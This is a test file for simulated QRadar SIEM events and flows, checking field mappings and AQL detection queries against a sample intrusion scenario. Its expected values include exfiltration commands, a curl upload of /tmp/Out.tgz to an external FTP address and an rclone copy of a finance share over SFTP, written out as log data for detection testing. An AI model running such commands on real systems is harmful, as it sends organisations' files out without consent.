import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import type { SensorRecord } from '../../src/simulation/sensor.ts'
import { QRADAR } from '../../src/simulation/sensors/qradar/events.ts'
import { QRADAR_FLOWS } from '../../src/simulation/sensors/qradar/flows.ts'
import { describeWithSharedData, SHARED } from '../shared-data.ts'
import { sampleActivities } from './sample-scenario.ts'
import { observed, rowsOf, sessionOver } from './written-records.ts'

const windows = observed(QRADAR, sampleActivities('windows'))
const linux = observed(QRADAR, sampleActivities('linux'))
const flows = observed(QRADAR_FLOWS, sampleActivities('windows'))
const first = (event: string, category = '', records: readonly SensorRecord[] = windows) => {
  const found = records.find(
    (record) => record.event === event && String(record.fields['qideventcategory'] ?? '').includes(category),
  )
  if (found === undefined) throw new Error(`no ${event}`)
  return found.fields
}

const second = ({ time }: SensorRecord): number => Math.floor(time / 1000)

describe('events of QRadar', () => {
  test('have the properties of a default console, and no CommandLine', () => {
    const start = first('1', 'Sysmon')
    expect(start).toMatchObject({
      devicetype: 12,
      'Event ID': '1',
      EventID: '1',
      'Process Name': 'powershell.exe',
      'Process CommandLine': 'powershell.exe -File "C:\\Users\\Public\\send.ps1"',
      Command: 'powershell.exe -File "C:\\Users\\Public\\send.ps1"',
      'Parent Process Path': 'C:\\Windows\\explorer.exe',
      username: 'J.Doe',
      'User Domain': 'CORP',
      sourceip: '10.20.3.17',
      destinationip: '10.20.3.17',
      sourceport: 0,
    })
    for (const name of ['CommandLine', 'Image', 'OriginalFileName', 'bytes']) expect(start).not.toHaveProperty(name)
    expect(first('4688', 'Security')).toMatchObject({ 'Process Name': 'powershell.exe', username: 'J.Doe' })
    expect(first('22', 'Sysmon')).toMatchObject({ URL: 'drop.example' })
    expect(first('3', 'Sysmon')).toMatchObject({ destinationip: expect.any(String), protocolid: expect.any(Number) })
  })

  test('have the text of scripts as message only', () => {
    const script = first('4104')
    expect(script['Message']).toContain('Invoke-WebRequest')
    expect(script).not.toHaveProperty('Command')
  })

  test('of Linux are one for each record of the audit log, with what that record says', () => {
    expect(first('SYSCALL', 'auditd', linux)).toMatchObject({ devicetype: 11, 'Process Path': '/usr/bin/curl' })
    expect(first('SYSCALL', 'auditd', linux)).not.toHaveProperty('Command')
    const execve = first('EXECVE', 'auditd', linux)
    expect(execve['Command']).toBe('curl --upload-file /tmp/Out.tgz ftp://93.184.215.14/')
    expect(execve).not.toHaveProperty('Process Path')
  })

  test('come a second after the device wrote them, in the order of time', () => {
    for (const { fields, time } of [...windows, ...linux]) {
      expect(fields['starttime']).toBe(time)
      expect(Number(fields['devicetime']) % 1000).toBe(0)
      expect(Number(fields['starttime']) - Number(fields['devicetime'])).toBeLessThan(2001)
    }
  })

  test('are read whole when written as results of a search', async () => {
    const all = [...windows, ...linux]
    const session = await sessionOver(QRADAR, 'ariel', all)
    const { counts, diagnostics } = session.ingested
    expect([counts.read, counts.rejected, counts.unmapped, diagnostics]).toEqual([all.length, 0, 0, []])
    const text = `SELECT DATEFORMAT(devicetime, 'yyyy-MM-dd HH:mm:ss') AS at, LOGSOURCENAME(logsourceid) AS source, QIDNAME(qid) AS name,
      "Machine Identifier" AS host, username, "Process Path" AS path, "Parent Process Path" AS parent
      FROM events WHERE devicetype = 12 AND "Event ID" = '1' AND "Command" IMATCHES '.*rclone.*'`
    expect(await rowsOf(session, 'aql', text)).toEqual([
      {
        at: '2026-03-02 09:14:04',
        source: 'WindowsAuthServer @ WS-LAB-01',
        name: 'Process Create',
        host: 'WS-LAB-01.corp.example',
        username: 'J.Doe',
        path: 'C:\\Users\\Public\\Rclone.exe',
        parent: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      },
    ])
    const command = `SELECT "Command" FROM events WHERE devicetype = 11 AND "Command" ILIKE '%ftp://%'`
    expect(await rowsOf(session, 'aql', command)).toHaveLength(1)
    const line = `SELECT username FROM events WHERE UTF8(payload) ILIKE '%EventIDCode=4688%rclone.exe copy%'`
    expect(await rowsOf(session, 'aql', line)).toEqual([{ username: 'J.Doe' }])
  })

  test('are read as LEEF, with the predefined keys in columns and all else under its own name', async () => {
    const all = [...windows, ...linux]
    const session = await sessionOver(QRADAR, 'leef', all)
    const { counts, diagnostics } = session.ingested
    expect([counts.read, counts.rejected, counts.unmapped, diagnostics]).toEqual([all.length, 0, 0, []])
    const starts = `SELECT qideventid, username, "CommandLine", "ParentImage", DATEFORMAT(devicetime, 'yyyy-MM-dd HH:mm:ss.SSS') AS at
      FROM events WHERE qideventcategory ILIKE '%sysmon%' AND qideventid = '1' AND "CommandLine" ILIKE 'rclone%'`
    expect(await rowsOf(session, 'aql', starts)).toEqual([
      {
        qideventid: '1',
        username: 'J.Doe',
        CommandLine: 'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 93.184.215.14',
        ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        at: '2026-03-02 09:14:04.003',
      },
    ])
    const connections = `SELECT destinationip, destinationport, protocolid FROM events WHERE qideventid = '5156' AND destinationport = 22`
    expect(await rowsOf(session, 'aql', connections)).toEqual([
      { destinationip: '93.184.215.14', destinationport: 22, protocolid: 6 },
    ])
    const calls = `SELECT username, exe FROM events WHERE qideventid = 'SYSCALL' AND key = 'exec'`
    expect(await rowsOf(session, 'aql', calls)).toEqual([{ username: 'jdoe', exe: '/usr/bin/curl' }])
  })

  test('are the same events when the lines of log sources are read', async () => {
    const session = await sessionOver(QRADAR, 'lines', windows)
    const { counts } = session.ingested
    expect([counts.read, counts.rejected, counts.unmapped]).toEqual([windows.length, 0, 0])
    const text = `SELECT "Event ID" AS id, "Process Path" AS path, "Command" AS command, "Parent Process Path" AS parent FROM events
      WHERE "Event ID" IN ('1', '4688') ORDER BY starttime, "Event ID"`
    const told = windows
      .filter(({ event }) => event === '1' || event === '4688')
      // Lines have whole seconds.
      .toSorted((a, b) => second(a) - second(b) || a.event.localeCompare(b.event))
      .map(({ event, fields }) => ({
        id: event,
        path: fields['Process Path'],
        command: fields['Command'],
        parent: fields['Parent Process Path'],
      }))
    expect(await rowsOf(session, 'aql', text)).toEqual(told)
    const connections = `SELECT destinationip, destinationport FROM events WHERE "Event ID" = '3' AND destinationport = 22`
    expect(await rowsOf(session, 'aql', connections)).toEqual([{ destinationip: '93.184.215.14', destinationport: 22 }])
  })
})

describe('flows of QRadar', () => {
  test('are of what leaves the host, with bytes and without processes', () => {
    expect(flows.map(({ fields }) => fields['destinationport'])).toEqual([53, 53, 53, 22, 443, 80, 25, 21, 3389, 0, 53])
    const upload = flows.find(({ fields }) => fields['destinationport'] === 22)?.fields
    expect(upload).toMatchObject({ flowdirection: 'L2R', protocolid: 6, flowbias: 'mostly-out' })
    expect(Number(upload?.['sourcebytes'])).toBeGreaterThan(52_428_800)
    expect(Number(upload?.['lastpackettime']) - Number(upload?.['firstpackettime'])).toBe(60_000)
    expect(
      flows.flatMap(({ fields }) => Object.keys(fields)).filter((name) => /process |user|command/i.test(name)),
    ).toEqual([])
  })

  test('are read whole', async () => {
    const session = await sessionOver(QRADAR_FLOWS, 'ariel', flows)
    const { counts, diagnostics } = session.ingested
    expect([counts.read, counts.rejected, counts.unmapped, diagnostics]).toEqual([flows.length, 0, 0, []])
    const text = `SELECT sourceip, destinationip, destinationport FROM flows WHERE sourcebytes > 50000000 AND flowdirection = 'L2R' AND destinationport = 22`
    expect(await rowsOf(session, 'aql', text)).toEqual([
      { sourceip: '10.20.3.17', destinationip: '93.184.215.14', destinationport: 22 },
    ])
  })
})

describeWithSharedData('columns of QRadar', () => {
  const known = (prefix: string): Record<string, string> => {
    const schema: Record<string, Record<string, string>> = JSON.parse(
      readFileSync(`${SHARED}/schemas/qradar.json`, 'utf8'),
    )
    const tables = Object.entries(schema).filter(([name]) => name.startsWith(prefix) && !name.includes('community'))
    return Object.assign({}, ...tables.map(([, columns]) => columns))
  }
  const FORMS: Readonly<Record<string, RegExp>> = {
    int: /^-?\d+$/,
    long: /^\d+$/,
    'long:epoch_ms': /^\d{13}$/,
    ip: /^[\d.]+$/,
    bool: /^(?:true|false)$/,
  }

  test.each([
    ['events', [...windows, ...linux]],
    ['flows', flows],
  ] as const)('have their names and forms: %s', (table, records) => {
    const columns = known(table)
    for (const { fields } of records) {
      for (const [name, value] of Object.entries(fields)) {
        // Names that functions give beside the columns that they ask.
        if (/^(?:qidname_qid|categoryname_category|logsourcename_logsourceid)$/.test(name) || name === 'endtime')
          continue
        expect([name, columns[name]]).toEqual([name, expect.any(String)])
        expect(String(value)).toMatch(FORMS[columns[name] ?? ''] ?? /^/)
      }
    }
  })
})
